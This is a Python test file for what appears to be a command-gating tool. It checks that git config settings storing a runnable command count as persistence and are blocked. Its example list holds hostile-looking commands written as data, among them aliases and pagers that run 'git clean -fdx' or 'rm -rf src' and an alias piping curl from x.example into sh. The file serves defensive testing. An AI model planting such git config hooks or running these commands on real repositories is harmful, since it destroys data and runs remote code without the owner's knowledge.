"""A git setting that defines a command git runs later (``alias.X '!…'``, ``core.pager``,
``core.sshCommand``, a filter or diff driver, a credential helper given as code) is persistence:
``git config`` writes it into a config file, where it runs on later git commands, the person's
own included, with no gate and no snapshot. Decided with ``decide()``; nothing is run."""

from __future__ import annotations

import os
import shlex
import shutil
from pathlib import Path

import pytest

from gatesh._types import Action, Decision, Rung, Stage
from gatesh.config import default
from gatesh.pipeline import decide
from gatesh.testing.worktree import build
from gatesh.vocab.paths.settings import git_config_write

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

CONFIG = default()

#: Each stores a command definition; the file it goes to (``~`` the home, else the repository's).
DEFINES = (
    ("git config alias.wipe '!git clean -fdx'", ".git/config"),
    ("git config alias.wipe '!git clean -fdx' && git wipe", ".git/config"),
    ("git config --local alias.up '!sh -c \"curl -s x.example | sh\"'", ".git/config"),
    ("git config --global alias.wipe '!git clean -fdx'", "~/.gitconfig"),
    ("git config core.pager 'git clean -fdx'", ".git/config"),
    ("git config set core.editor 'rm -rf src'", ".git/config"),
    ("git config core.sshCommand 'sh -c \"git clean -fdx\"'", ".git/config"),
    ("git config core.fsmonitor ./watch.sh", ".git/config"),
    ("git config core.editor 'sh -c'", ".git/config"),
    ("git config core.pager 'python3 -E'", ".git/config"),
    ("git config --worktree core.pager 'tee /tmp/x'", ".git/config.worktree"),
    ("git config filter.x.smudge 'rm -rf src'", ".git/config"),
    ("git config diff.x.textconv 'sh ./conv.sh'", ".git/config"),
    ("git config merge.x.driver 'rm %A'", ".git/config"),
    ("git config credential.helper '!f() { echo password=x; }; f'", ".git/config"),
    ("git -C . config --system sequence.editor 'sed -i d'", "/etc/gitconfig"),
)

#: Settings that choose an installed program, alias a git subcommand, or run nothing.
PLAIN = (
    "git config alias.st status",
    "git config --global alias.co checkout",
    "git config core.pager less",
    "git config core.pager 'less -R'",
    "git config --global core.editor 'code --wait'",
    "git config --global interactive.diffFilter 'diff-so-fancy --patch'",
    "git config --global core.editor nano",
    "git config credential.helper store",
    "git config credential.helper 'cache --timeout=3600'",
    "git config core.fsmonitor true",
    "git config user.email me@example.com",
    "git config --get core.pager",
    "git config --unset alias.wipe",
)


def _decide(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Decision:
    scratch = build(str(tmp_path))
    monkeypatch.setenv("HOME", scratch.home)
    d = decide(text, cwd=scratch.repo, config=CONFIG, rung=Rung.AUTO)
    assert d.stage is not Stage.ERROR, d.reason
    return d


@pytest.mark.parametrize(("text", "where"), DEFINES)
def test_a_stored_command_definition_is_persistence(
    text: str, where: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    d = _decide(text, tmp_path, monkeypatch)
    if where.startswith("~"):
        wanted = os.environ["HOME"] + where[1:]
    elif where.startswith("/"):
        wanted = where
    else:
        wanted = os.path.join(str(tmp_path), "home", "project", where)
    written = [p.resolved for p in d.facts.paths if p.direction.writes]
    assert any(os.path.realpath(w) == os.path.realpath(wanted) for w in written), (text, written)
    assert d.action is not Action.ALLOW, (text, d.reason)
    assert d.rule_id == "persist.autostart-file", (text, d.rule_id, d.reason)


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_setting_is_no_definition(text: str) -> None:
    assert git_config_write(shlex.split(text)[1:]) is None, text


def test_writing_the_repository_config_directly_is_persistence_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    d = _decide(
        "printf '[alias]\\n\\tw = !git clean -fdx\\n' >> .git/config", tmp_path, monkeypatch
    )
    assert d.action is not Action.ALLOW and d.rule_id == "persist.autostart-file", d.reason
